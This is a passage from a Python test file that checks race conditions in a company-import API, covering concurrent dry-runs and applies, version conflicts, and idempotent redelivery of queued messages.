    answer = on(imports, firm, "POST", f"/imports/{import_id}/dry-run", headers={"If-Match": '"1"'})
    assert_refused(answer, 412, "version_conflict")
    assert on(imports, firm, "GET", f"/imports/{import_id}").body["dryRun"] == before["dryRun"]
    assert rows(imports, firm, import_id) == planned


class Schedule:
    """`pipeline.commit` with the named threads' commits in a set order: (thread, its nth commit) steps;
    every other commit goes at once."""

    def __init__(self, steps: list[tuple[str, int]], commit: Callable[..., Any]) -> None:
        self._steps, self._commit = steps, commit
        self._next = 0
        self._counts: dict[str, int] = {}
        self._turn = threading.Condition()

    def __call__(self, writes: Any, context: Any) -> Any:
        name = threading.current_thread().name
        with self._turn:
            self._counts[name] = self._counts.get(name, 0) + 1
            step = (name, self._counts[name])
            if step not in self._steps:
                return self._commit(writes, context)
            assert self._turn.wait_for(lambda: self._steps[self._next] == step, timeout=10), step
        try:
            return self._commit(writes, context)
        finally:
            with self._turn:
                self._next = min(self._next + 1, len(self._steps) - 1)
                self._turn.notify_all()


def two(stack: Stack) -> tuple[App, App]:
    return app(stack), app(stack)  # two Lambda containers: each serves one request at a time


def test_two_dry_runs_at_once_leave_one_plan_that_rows_lists(
    stack: Stack, imports: App, firm: Firm, monkeypatch: pytest.MonkeyPatch
) -> None:
    import_id = made(imports, firm, company_import())["id"]
    first, second = two(stack)
    # d1 keeps its plans, d2 overwrites them, d1 marks the import checked, d2 loses its race (409)
    steps = [("d1", 1), ("d2", 1), ("d1", 2), ("d2", 2)]
    monkeypatch.setattr(pipeline, "commit", Schedule(steps, pipeline.commit))
    answers = together({
        "d1": lambda: on(first, firm, "POST", f"/imports/{import_id}/dry-run"),
        "d2": lambda: on(second, firm, "POST", f"/imports/{import_id}/dry-run"),
    })  # fmt: skip
    assert sorted(answer.status for answer in answers.values()) == [200, 409], answers
    assert answers["d2"].code == "write_conflict"
    shown = on(imports, firm, "GET", f"/imports/{import_id}").body
    assert shown["status"] == "checked"
    assert [row["row"] for row in rows(imports, firm, import_id)] == [1, 2]


@pytest.mark.parametrize("order", [("dry", "apply"), ("apply", "dry")])
def test_an_apply_racing_a_dry_run_applies_every_row_once(
    stack: Stack, imports: App, firm: Firm, in_order: Callable[[str, str], None], order: tuple[str, str]
) -> None:
    import_id = made(imports, firm, company_import())["id"]
    first, second = two(stack)
    in_order(*order)
    answers = together({
        "dry": lambda: on(first, firm, "POST", f"/imports/{import_id}/dry-run"),
        "apply": lambda: on(second, firm, "POST", f"/imports/{import_id}/apply"),
    })  # fmt: skip
    assert all(answer.status < 500 for answer in answers.values()), answers
    if answers["apply"].status == 409:  # the dry-run won: nothing was queued
        assert messages() == []
        assert on(imports, firm, "GET", f"/imports/{import_id}").body["status"] == "checked"
        assert on(imports, firm, "POST", f"/imports/{import_id}/apply").status == 202
    else:
        assert answers["apply"].status == 202, answers
        assert answers["dry"].code in ("write_conflict", "import_applied"), answers
    drain(stack)
    shown = on(imports, firm, "GET", f"/imports/{import_id}").body
    assert shown["progress"] == {"created": 2, "updated": 0, "failed": 0, "done": 2, "rows": 2}
    assert [row["outcome"] for row in rows(imports, firm, import_id)] == ["created", "created"]
    assert len(records(firm, "Company")) == 2


def test_two_applies_at_once_write_each_row_once(
    stack: Stack, imports: App, firm: Firm, in_order: Callable[[str, str], None]
) -> None:
    import_id = made(imports, firm, company_import())["id"]
    first, second = two(stack)
    in_order("a1", "a2")
    answers = together({
        "a1": lambda: on(first, firm, "POST", f"/imports/{import_id}/apply"),
        "a2": lambda: on(second, firm, "POST", f"/imports/{import_id}/apply"),
    })  # fmt: skip
    assert answers["a1"].status == 202, answers
    assert answers["a2"].status in (202, 409), answers
    queued = messages()
    again_event = {"Records": [{"messageId": m["MessageId"], "body": m["Body"]} for m in queued]}
    assert deliver(stack, queued) == 0
    assert worker.lambda_handler(again_event, None, worker_ports(stack)) == {"batchItemFailures": []}
    shown = on(imports, firm, "GET", f"/imports/{import_id}").body
    assert shown["status"] == "applied"
    assert shown["progress"] == {"created": 2, "updated": 0, "failed": 0, "done": 2, "rows": 2}
    assert len(records(firm, "Company")) == 2
    imported = [e for e in firm.call("GET", "/changes").body["items"] if e["actor"]["via"] == "import"]
    assert len(imported) == 2
    again = on(imports, firm, "POST", f"/imports/{import_id}/apply")
    assert_refused(again, 409, "import_applied")
    assert_refused(on(imports, firm, "POST", f"/imports/{import_id}/dry-run"), 409, "import_applied")
    assert messages() == []
